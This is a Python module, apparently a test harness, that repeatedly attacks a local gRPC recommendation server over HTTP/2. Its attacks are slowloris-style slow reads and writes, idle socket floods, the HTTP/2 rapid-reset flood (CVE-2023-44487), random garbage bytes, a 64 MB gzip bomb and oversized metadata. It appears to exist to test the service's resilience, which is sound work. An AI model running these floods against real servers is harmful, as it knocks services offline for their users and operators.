"""Mistreats a server until it is killed: once a second, or once for those that last.

    python -m fault.attacks NAME PORT

It comes from a host of its own, 127.0.0.9, and says on standard output when it has begun.
"""

import gzip
import os
import socket
import sys
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from fault import raw_http2 as raw

from bascule.v1 import recommendation_service_pb2 as pb

SOURCE = "127.0.0.9"
RECOMMEND = "/bascule.v1.RecommendationService/RecommendItems"
STREAM = "/bascule.v1.RecommendationService/StreamRecommendItems"
QUERY = pb.Query(user=pb.User(history=["i"]))
MESSAGE = pb.RecommendItemsRequest(query=QUERY).SerializeToString()
STREAM_MESSAGE = pb.StreamRecommendItemsRequest(queries=[QUERY] * 4).SerializeToString()


class Attacker:
    """Opens connections, and keeps them until the end of a turn."""

    def __init__(self, port: int, kept: ExitStack) -> None:
        self._port = port
        self._kept = kept

    def connection(self) -> socket.socket:
        return self._kept.enter_context(raw.connection(self._port, SOURCE))

    def say(self, *parts: bytes) -> None:
        """On a connection of its own, which the server may have had enough of."""
        connection = self.connection()
        with suppress(BrokenPipeError, ConnectionResetError):
            for part in parts:
                connection.sendall(part)

    def slow_reader(self) -> None:
        """Asks through calls and streams, and has no room for any answer."""
        no_room = raw.greeting([(raw.INITIAL_WINDOW_SIZE, 0)])
        calls = [raw.request_headers(stream, RECOMMEND) + raw.message(stream, MESSAGE) for stream in range(1, 41, 2)]
        messages = raw.message(41, STREAM_MESSAGE, ends=False) * 50
        self.say(no_room, *calls, raw.request_headers(41, STREAM), messages)

    def slow_writer(self) -> None:
        """Sends half a greeting; begins calls, and sends a byte of each message."""
        for _ in range(100):
            self.say(raw.PREFACE[:10])
        begun = [
            raw.request_headers(stream, RECOMMEND) + raw.frame(raw.DATA, 0, stream, b"\0")
            for stream in range(1, 401, 2)
        ]
        self.say(raw.greeting(), *begun)

    def idle_sockets(self) -> None:
        """Connects 500 times and says nothing."""
        for _ in range(500):
            self.connection()

    def rapid_resets(self) -> None:
        """Begins 5,000 streams and takes each back at once: CVE-2023-44487."""
        calls = [
            raw.request_headers(stream, RECOMMEND) + raw.message(stream, MESSAGE) + raw.reset(stream)
            for stream in range(1, 10_001, 2)
        ]
        self.say(raw.greeting(), b"".join(calls))

    def garbage(self) -> None:
        """Sends bytes that are no HTTP/2, and some that are no frames."""
        for number in range(200):
            self.say(raw.greeting() if number % 2 else b"", os.urandom(10_000))

    def gzip_bomb(self) -> None:
        """Sends a message of 62 KB that becomes 64 MB."""
        headers = raw.request_headers(1, RECOMMEND, [("grpc-encoding", "gzip")])
        self.say(raw.greeting(), headers, raw.message(1, BOMB, is_compressed=True))

    def huge_metadata(self) -> None:
        """Sends 64 KB of metadata with each of 50 calls."""
        huge = [(f"x-{number}", "x" * 4_000) for number in range(16)]
        calls = [
            raw.request_headers(stream, RECOMMEND, huge) + raw.message(stream, MESSAGE) for stream in range(1, 101, 2)
        ]
        self.say(raw.greeting(), *calls)


BOMB = gzip.compress(bytes(64 * 1024 * 1024))

ATTACKS: dict[str, Callable[[Attacker], None]] = {
    attack.__name__: attack
    for attack in (
        *(Attacker.slow_reader, Attacker.slow_writer, Attacker.idle_sockets, Attacker.rapid_resets),
        *(Attacker.garbage, Attacker.gzip_bomb, Attacker.huge_metadata),
    )
}


LASTING = {"slow_reader", "slow_writer", "idle_sockets"}


def main() -> None:
    name, port = sys.argv[1:]
    while True:
        with ExitStack() as kept:
            ATTACKS[name](Attacker(int(port), kept))
            if name in LASTING:
                # What they ask for is computed like everybody's; how they hold on to it is what is of interest.
                time.sleep(1.0)
            print("begun", flush=True)
            time.sleep(3_600.0 if name in LASTING else 1.0)


if __name__ == "__main__":
    main()
